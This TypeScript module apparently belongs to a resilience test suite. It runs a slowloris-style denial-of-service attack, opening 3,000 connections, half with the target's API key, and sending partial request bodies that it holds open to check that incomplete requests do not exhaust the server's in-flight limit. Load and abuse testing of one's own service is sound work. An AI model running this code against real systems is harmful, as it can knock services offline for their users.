import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Target } from '../attack.js';

const CONNECTIONS = 1_500;
const AT_ONCE = 100;
const STARTS = ['POST /nowhere HTTP/1.1', 'POST /ping HTTP/1.1', 'OPTIONS /api/v1/leads HTTP/1.1', 'PUT /x HTTP/1.0'];
const FRAMINGS = ['Content-Length: 100\r\n\r\n{', 'Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n'];

/** Requests in flight are limited, so those that are never complete must not count. */
export const attack: Attack = {
  title: 'a stranger and a key send half a body on each of 3,000 connections, and wait',
  run: async (target) => {
    const sockets: Socket[] = [];
    for (let count = 0; count < CONNECTIONS; count++) {
      sockets.push(begin(target, STARTS[count % STARTS.length]!, count));
      sockets.push(begin(target, 'POST /api/v1/leads HTTP/1.1', count, `X-API-Key: ${target.userKey}\r\n`));
      if (count % AT_ONCE === 0) await sleep(50);
    }
    await sleep(8_000);
    for (const socket of sockets) socket.destroy();
  },
};

function begin({ host, port }: Target, start: string, count: number, headers = ''): Socket {
  const framing = FRAMINGS[count % FRAMINGS.length]!;
  const request = `${start}\r\nHost: ${host}\r\nContent-Type: application/json\r\n${headers}${framing}`;
  const socket = connect(port, host, () => socket.write(request));
  return socket.on('error', () => undefined).resume();
}
